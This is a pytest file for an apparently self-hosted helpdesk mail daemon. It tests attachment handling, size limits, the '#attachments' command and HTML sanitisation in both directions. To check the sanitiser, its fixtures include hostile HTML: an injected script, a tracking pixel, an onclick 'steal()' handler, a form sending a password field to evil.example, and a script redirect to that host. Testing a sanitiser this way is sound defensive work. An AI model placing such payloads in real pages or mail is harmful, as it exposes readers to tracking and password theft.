"""Attachments and HTML both ways: what staff get of a customer's mail, what a customer gets of a
staff answer, and `#attachments`.

The whole pipeline runs over the test database (SQLite, or PostgreSQL with MAILD_TEST_DATABASE);
what maild would send is read back from the outbox and parsed as a mail client would.
"""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path

import pytest

from conftest import write_config
from helpers import accept, body, sent
from maild.config import load_config
from maild.intake import Intake, Outcome
from maild.pipeline.steps import STEPS
from maild.runtime import Runtime, Settings
from maild.store.db import open_store
from maild.store.migrations import migrate
from maild.store.models import Attachment, Event, Message, Ticket
from maild.store.queries import ticket_detail
from mails import mail

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
SCREENSHOT = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
SCRIPTED = ('<p>Steps to reproduce:</p><ol><li>Open <b>Reports</b></li><li>Pick May</li></ol>'
            '<script>alert("x")</script><img src="https://tracker.example/open.gif">'
            '<p onclick="steal()">Thanks</p>'
            '<form action="https://evil.example/"><input name="pw"></form>')


def build(tmp_path: Path, outbound: str) -> Intake:
    """An intake on a fresh database, with `outbound` lines added to the outbound section."""
    config = write_config(tmp_path, relay_port=None, smtp_port=2525)
    config.write_text(config.read_text().replace("  send_interval_seconds: 0.2\n",
                                                 f"  send_interval_seconds: 0.2\n{outbound}"))
    settings = Settings.build(load_config(config))
    open_store(settings.config.database)
    migrate()
    return Intake(Runtime(settings), STEPS)


def answered(intake: Intake, answer: EmailMessage) -> Outcome:
    return accept(intake, answer, to=str(answer["To"]))


def files(message: EmailMessage) -> dict[str, bytes]:
    return {part.get_filename(): part.get_content() for part in message.iter_attachments()}


def customer_mail(html: str | None = SCRIPTED, attach: dict[str, bytes] | None = None,
                  inline: bytes | None = None, **headers: str) -> EmailMessage:
    """As a client writes it: text, the HTML alternative (with an inline image), files."""
    message = mail(**headers)
    if html is not None:
        shown = '<img src="cid:shot@dana">' if inline else ""
        message.add_alternative(html + shown, subtype="html")
    if inline is not None:
        message.get_payload()[1].add_related(inline, "image", "png", cid="<shot@dana>",
                                             filename="screenshot.png", disposition="inline")
    for name, data in (attach or {}).items():
        message.add_attachment(data, maintype="application", subtype="pdf", filename=name)
    return message


def notification(to: str = "alice@example.com") -> EmailMessage:
    """The latest notification to `to`."""
    return [n for n in sent("notification") if to in str(n["To"])][-1]


def staff_answer(note: EmailMessage, text: str, html: str | None = None,
                 attach: dict[str, bytes] | None = None) -> EmailMessage:
    """Alice answers the notification from her client: to its Reply-To, quoting it."""
    quoted = "\n".join("> " + line for line in body(note).splitlines())
    answer = mail(sender="Alice Engineer <alice@example.com>", to=note["Reply-To"],
                  subject="Re: " + note["Subject"], In_Reply_To=note["Message-ID"],
                  body=f"{text}\n\nOn Mon, 23 Nov 2026, Test Helpdesk wrote:\n{quoted}\n")
    if html is not None:
        answer.add_alternative(html, subtype="html")
    for name, data in (attach or {}).items():
        answer.add_attachment(data, maintype="application", subtype="pdf", filename=name)
    return answer


# ---------------------------------------------------------------- customer -> staff

def test_notification_carries_the_files_inline_images_and_safe_html(intake: Intake) -> None:
    message = customer_mail(attach={"report.pdf": PDF}, inline=SCREENSHOT)
    assert accept(intake, message) is Outcome.OPENED
    note = notification()
    assert files(note)["report.pdf"] == PDF
    html = note.get_body(("html",))
    assert html.get_content_type() == "text/html"
    related = next(p for p in note.walk() if p.get_content_type() == "multipart/related")
    [image] = [p for p in related.iter_parts() if p.get_content_type() == "image/png"]
    assert image["Content-ID"] == "<shot@dana>" and image.get_content() == SCREENSHOT
    shown = html.get_content()
    assert "<ol><li>Open <b>Reports</b></li>" in shown and 'src="cid:shot@dana"' in shown
    for unsafe in ("<script", "alert(", "tracker.example", "onclick", "<form", "<input"):
        assert unsafe not in shown
    text = body(note)
    assert "Attached: screenshot.png (2 kB), shown in the HTML; report.pdf (10 kB)\n" in text
    assert "The report is wrong since this morning." in text  # the mail's own text part
    detail = ticket_detail(Ticket.get().number)
    assert [(a["name"], a["type"], a["size"], a["inline"]) for a in detail["attachments"]] == [
        ("screenshot.png", "image/png", len(SCREENSHOT), True),
        ("report.pdf", "application/pdf", len(PDF), False)]


def test_files_past_the_mail_limit_are_named_with_size_and_id(tmp_path: Path) -> None:
    intake = build(tmp_path, "  attachments_per_mail_bytes: 15000\n")
    big, small = PDF * 2, b"%PDF small" * 100
    message = customer_mail(attach={"big.pdf": big, "small.pdf": small})
    assert accept(intake, message) is Outcome.OPENED
    note = notification()
    assert set(files(note)) == {"small.pdf"}
    big_row = Attachment.get(Attachment.filename == "big.pdf")
    assert big_row.content == big  # stored whole: only the mail leaves it out
    text = body(note)
    assert "Not attached" in text and "maild attachment ID" in text and "#attachments ID" in text
    assert f"big.pdf (21 kB, over the 15 kB one mail carries in all): ID {big_row.id}" in text


def test_a_reply_notification_carries_the_new_html_without_the_history(intake: Intake) -> None:
    assert accept(intake, customer_mail(html=None)) is Outcome.OPENED
    first = sent("acknowledgement")[0]
    reply = customer_mail(
        html='<div dir="ltr">The export still fails.</div><div class="gmail_quote">'
             '<div class="gmail_attr">On Mon, Helpdesk wrote:</div>'
             '<blockquote class="gmail_quote">We received your request</blockquote></div>',
        subject="Re: " + str(first["Subject"]), In_Reply_To=first["Message-ID"])
    assert accept(intake, reply) is Outcome.REPLIED
    html = notification().get_body(("html",)).get_content()
    assert "The export still fails." in html
    assert "We received your request" not in html and "On Mon, Helpdesk wrote" not in html


def test_html_only_mail_gets_a_readable_text_part(intake: Intake) -> None:
    message = mail(body="")
    message.set_content('<table><tr><th>Date</th><th>Shown</th></tr><tr><td>1 May</td>'
                        '<td>31 April</td></tr></table><ul><li>Open '
                        '<a href="https://app.example/r">the report</a></li></ul>', subtype="html")
    assert accept(intake, message) is Outcome.OPENED
    note = notification()
    text = body(note)
    assert "Date Shown\n1 May 31 April" in text and "- Open the report" in text
    assert "<td>" not in text and "<table" in note.get_body(("html",)).get_content()


def test_plain_mail_gives_a_plain_notification(intake: Intake) -> None:
    assert accept(intake, mail()) is Outcome.OPENED
    assert notification().get_content_type() == "text/plain"


# ---------------------------------------------------------------- staff -> customer

def opened(intake: Intake) -> EmailMessage:
    assert accept(intake, customer_mail(html=None)) is Outcome.OPENED
    return notification()


def test_a_staff_answers_file_reaches_the_customer_and_the_ticket(intake: Intake) -> None:
    note = opened(intake)
    assert answered(intake, staff_answer(note, "Here is the corrected report.",
                                       attach={"fixed.pdf": PDF})) is Outcome.REPLIED
    [answer] = sent("answer")
    assert files(answer) == {"fixed.pdf": PDF}
    assert "Here is the corrected report." in body(answer)
    [stored] = ticket_detail(Ticket.get().number)["attachments"]
    assert (stored["name"], stored["direction"]) == ("fixed.pdf", "out")
    assert stored["message"] == answer["Message-ID"]


def test_a_staff_file_over_the_limit_is_refused_back_with_the_reason(tmp_path: Path) -> None:
    intake = build(tmp_path, "  attachments_per_mail_bytes: 15000\n")
    note = opened(intake)
    answer = staff_answer(note, "Both files attached.", attach={"huge.pdf": PDF * 2, "ok.pdf": PDF})
    assert answered(intake, answer) is Outcome.REPLIED
    [to_customer] = sent("answer")
    assert files(to_customer) == {"ok.pdf": PDF}
    [refused] = sent("attachments_refused")
    assert "alice@example.com" in str(refused["To"])
    text = body(refused)
    assert "huge.pdf (21 kB): over the 15 kB one mail carries in all" in text and "ok.pdf" in text
    event = Event.get(Event.kind == "attachments_refused")
    assert "huge.pdf" in event.detail and "alice" in event.detail


def test_an_html_answer_goes_out_as_alternative_without_script_commands_or_history(
        intake: Intake) -> None:
    note = opened(intake)
    html = ('<div>#priority 2<br></div><div>Dear Dana,</div><p>Please <b>restart</b> the export.'
            '<script>document.location="https://evil.example/"</script></p>'
            '<div class="moz-cite-prefix">On 23/11/2026 Test Helpdesk wrote:</div>'
            '<blockquote type="cite">Ticket 1: Placement report</blockquote>')
    answer = staff_answer(note, "#priority 2\nDear Dana,\nPlease restart the export.", html=html)
    assert answered(intake, answer) is Outcome.REPLIED
    [out] = sent("answer")
    assert out.get_content_type() == "multipart/alternative"
    shown = out.get_body(("html",)).get_content()
    assert "Please <b>restart</b> the export." in shown and "Alice Engineer" in shown
    for gone in ("<script", "evil.example", "#priority", "Ticket 1: Placement", "wrote:"):
        assert gone not in shown
    assert Ticket.get().priority == 2
    stored = Message.get(Message.message_id == out["Message-ID"])
    assert "restart" in stored.html and "<script" not in stored.html


def test_an_inline_image_in_a_staff_answer_stays_inline_for_the_customer(intake: Intake) -> None:
    note = opened(intake)
    html = '<p>See the screenshot.</p><img src="cid:s@alice">'
    answer = staff_answer(note, "See the screenshot.", html=html)
    answer.get_payload()[1].add_related(SCREENSHOT, "image", "png", cid="<s@alice>",
                                        filename="s.png")
    assert answered(intake, answer) is Outcome.REPLIED
    [out] = sent("answer")
    related = next(p for p in out.walk() if p.get_content_type() == "multipart/related")
    [image] = [p for p in related.iter_parts() if p.get_content_type() == "image/png"]
    assert image["Content-ID"] == "<s@alice>" and image.get_content() == SCREENSHOT
    assert 'src="cid:s@alice"' in out.get_body(("html",)).get_content()


@pytest.mark.parametrize("text", ["#note the customer's log, for us only", "#pending"])
def test_files_of_a_note_or_a_commands_only_reply_are_kept_on_the_ticket(intake: Intake,
                                                                         text: str) -> None:
    note = opened(intake)
    answer = staff_answer(note, text, attach={"internal.pdf": PDF})
    assert answered(intake, answer) is Outcome.REPLIED
    assert not sent("answer")
    [stored] = ticket_detail(Ticket.get().number)["attachments"]
    assert (stored["name"], stored["direction"]) == ("internal.pdf", "note")
    assert stored["size"] == len(PDF)


def test_attachments_command_mails_the_tickets_files_to_the_staff_member(intake: Intake) -> None:
    message = customer_mail(attach={"report.pdf": PDF, "log.pdf": b"%PDF log"})
    assert accept(intake, message) is Outcome.OPENED
    note = notification()
    assert answered(intake, staff_answer(note, "#attachments")) is Outcome.REPLIED
    [mailed] = sent("attachments")
    assert "alice@example.com" in str(mailed["To"])
    assert files(mailed) == {"report.pdf": PDF, "log.pdf": b"%PDF log"}
    assert not sent("answer")  # commands only: nothing to the customer
    log_id = Attachment.get(Attachment.filename == "log.pdf").id
    assert answered(intake, staff_answer(note, f"#attachments {log_id} 999")) is Outcome.REPLIED
    second = sent("attachments")[1]
    assert files(second) == {"log.pdf": b"%PDF log"} and "has the ID 999" in body(second)


def test_attachments_command_with_a_bad_argument_is_refused(intake: Intake) -> None:
    note = opened(intake)
    assert answered(intake, staff_answer(note, "#attachments all")) is Outcome.REPLIED
    [errors] = sent("command_errors")
    assert "#attachments ID" in body(errors)


# ---------------------------------------------------------------- the command line

def test_ticket_lists_attachments_and_attachment_writes_one_out(tmp_path: Path) -> None:
    from conftest import MaildSetup

    config = write_config(tmp_path, relay_port=None, smtp_port=2525)
    setup = MaildSetup(tmp_path, config, 2525)
    message = customer_mail(attach={"report.pdf": PDF}, inline=SCREENSHOT)
    delivered = setup.cli("deliver", input=message.as_bytes())
    assert delivered.returncode == 0, delivered.stderr.decode()
    detail = setup.json("ticket", "1")
    by_name = {a["name"]: a for a in detail["attachments"]}
    assert set(by_name) == {"report.pdf", "screenshot.png"}
    pdf = by_name["report.pdf"]
    assert (pdf["type"], pdf["size"]) == ("application/pdf", len(PDF))
    assert (pdf["inline"], pdf["direction"]) == (False, "in")
    assert pdf["message"] == message["Message-ID"] and by_name["screenshot.png"]["inline"] is True
    shown = setup.cli("ticket", "1").stdout.decode()
    assert f"{pdf['id']:>6}  report.pdf (application/pdf, {len(PDF)} bytes)" in shown
    written = setup.cli("attachment", str(pdf["id"]))
    assert written.returncode == 0 and written.stdout == PDF
    target = tmp_path / "out.pdf"
    assert setup.cli("attachment", str(pdf["id"]), "-o", str(target)).returncode == 0
    assert target.read_bytes() == PDF
    missing = setup.cli("attachment", "999")
    assert missing.returncode == 1 and b"no attachment 999" in missing.stderr
